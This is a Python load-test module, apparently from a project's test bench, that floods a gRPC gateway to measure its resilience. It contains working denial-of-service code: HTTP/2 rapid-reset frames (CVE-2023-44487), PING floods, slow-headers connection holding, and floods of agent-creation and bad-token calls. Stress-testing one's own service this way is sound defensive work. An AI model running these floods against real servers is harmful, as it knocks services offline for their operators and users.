"""Somebody who means harm, until ended.

`python -m tests.bench.flooding KIND HOST:PORT TOKEN [idle]`, where "idle" has it do with the time
that nobody else needs. It says "reached" once the other side has answered, and every second how
much it has done so far.
"""

import asyncio
import os
import struct
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from contextlib import asynccontextmanager, suppress

import grpc
from hatchery.gateway.v1.agent_service_pb2 import CreateAgentRequest, ListAgentsRequest
from hatchery.gateway.v1.agent_service_pb2_grpc import AgentServiceStub

Metadata = tuple[tuple[str, str], ...]
Call = Callable[[AgentServiceStub, Metadata], Awaitable[None]]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
END_STREAM, END_HEADERS, CANCEL = 0x1, 0x4, 8
# So many frames a second, in bunches; so many connections; so many calls at once.
_FRAMES, _BUNCH = 2000, 20
_CONNECTIONS = 300
_CALLS = 16
_PATH = "/hatchery.gateway.v1.AgentService/ListAgents"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame as HTTP/2 writes it (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(name: str, value: str) -> bytes:
    """A header as HPACK writes it without a table (RFC 7541, 6.2.2); both shorter than 127."""
    return b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))


def headers(target: str, path: str = _PATH) -> bytes:
    """The headers of a call, for a HEADERS frame."""
    given = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": target,
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(_literal(name, value) for name, value in given.items())


class Harm:
    """How much of it was done: frames, calls, or seconds that connections were held."""

    def __init__(self) -> None:
        self.done = 0
        self._reached = False

    def reached(self) -> None:
        """The other side has answered."""
        if not self._reached:
            self._reached = True
            print("reached", flush=True)  # noqa: T201

    async def tell(self) -> None:
        """Says how much it is, for ever."""
        while True:
            await asyncio.sleep(1)
            if self._reached:
                print(self.done, flush=True)  # noqa: T201


Flood = Callable[[str, str, Harm], Awaitable[None]]


@asynccontextmanager
async def _connection(target: str, harm: Harm) -> AsyncIterator[asyncio.StreamWriter]:
    """HTTP/2, begun; what the other side says is thrown away."""
    host, _, port = target.partition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))

    async def drain() -> None:
        while await reader.read(65536):
            harm.reached()
        writer.transport.abort()

    reading = asyncio.create_task(drain())
    try:
        yield writer
    finally:
        reading.cancel()
        writer.transport.abort()


async def _frames(target: str, harm: Harm, bunch: Callable[[int], bytes]) -> None:
    """Sends bunches at their rate, on a new connection where one was ended."""
    while True:
        with suppress(OSError):
            async with _connection(target, harm) as writer:
                for number in range(1_000_000):
                    writer.write(b"".join(bunch(number * _BUNCH + n) for n in range(_BUNCH)))
                    await writer.drain()
                    harm.done += _BUNCH
                    if writer.is_closing():
                        break
                    await asyncio.sleep(_BUNCH / _FRAMES)
        await asyncio.sleep(0.01)


async def resets(target: str, _: str, harm: Harm) -> None:
    """Begins calls and takes each back at once (CVE-2023-44487)."""
    begun = headers(target)

    def bunch(number: int) -> bytes:
        stream = number * 2 + 1
        return frame(HEADERS, END_HEADERS, stream, begun) + frame(
            RST_STREAM, 0, stream, struct.pack(">I", CANCEL)
        )

    await _frames(target, harm, bunch)


async def pings(target: str, _: str, harm: Harm) -> None:
    """Asks again and again whether the other side lives."""
    await _frames(target, harm, lambda number: frame(PING, 0, 0, struct.pack(">Q", number)))


async def slow_headers(target: str, _: str, harm: Harm) -> None:
    """Opens connections, and never ends the first headers on them."""

    async def hold() -> None:
        while True:
            with suppress(OSError):
                async with _connection(target, harm) as writer:
                    writer.write(frame(HEADERS, 0, 1, headers(target)[:20]))
                    while not writer.transport.is_closing():
                        await asyncio.sleep(1)
                        harm.done += 1
            await asyncio.sleep(0.05)

    await asyncio.gather(*(hold() for _ in range(_CONNECTIONS)))


async def _calls(target: str, token: str, harm: Harm, one: Call) -> None:
    metadata = (("authorization", f"Bearer {token}"),)
    async with grpc.aio.insecure_channel(target) as channel:
        stub = AgentServiceStub(channel)

        async def work() -> None:
            while True:
                harm.done += 1
                try:
                    await one(stub, metadata)
                    harm.reached()
                except grpc.aio.AioRpcError as error:
                    if error.code() is not grpc.StatusCode.UNAVAILABLE:
                        harm.reached()
                    await asyncio.sleep(0.01)  # what is refused at once costs them nothing

        await asyncio.gather(*(work() for _ in range(_CALLS)))


async def creations(target: str, token: str, harm: Harm) -> None:
    """Creates as many companions as there may be, with a good token."""

    async def one(stub: AgentServiceStub, metadata: Metadata) -> None:
        call = stub.CreateAgent(CreateAgentRequest(description="speak 20 40"), metadata=metadata)
        await call.read()
        call.cancel()

    await _calls(target, token, harm, one)


async def strangers(target: str, _: str, harm: Harm) -> None:
    """Calls with tokens that are none."""

    async def one(stub: AgentServiceStub, metadata: Metadata) -> None:
        await stub.ListAgents(ListAgentsRequest(), metadata=metadata)

    await _calls(target, "a.b.c", harm, one)


# What each does, and how much of it a second makes it a flood.
KINDS: Mapping[str, tuple[Flood, int]] = {
    "rapid resets": (resets, _FRAMES // 2),
    "pings": (pings, _FRAMES // 2),
    "slow headers": (slow_headers, _CONNECTIONS // 2),
    "creations": (creations, 100),
    "bad tokens": (strangers, 100),
}


async def main(kind: str, target: str, token: str) -> None:
    """Does harm of a kind."""
    harm = Harm()
    flood, _ = KINDS[kind]
    await asyncio.gather(flood(target, token, harm), harm.tell())


if __name__ == "__main__":
    asked, priority = sys.argv[1:4], sys.argv[4:]
    os.nice(19)
    if priority == ["idle"] and sys.platform == "linux":
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    asyncio.run(main(*asked))
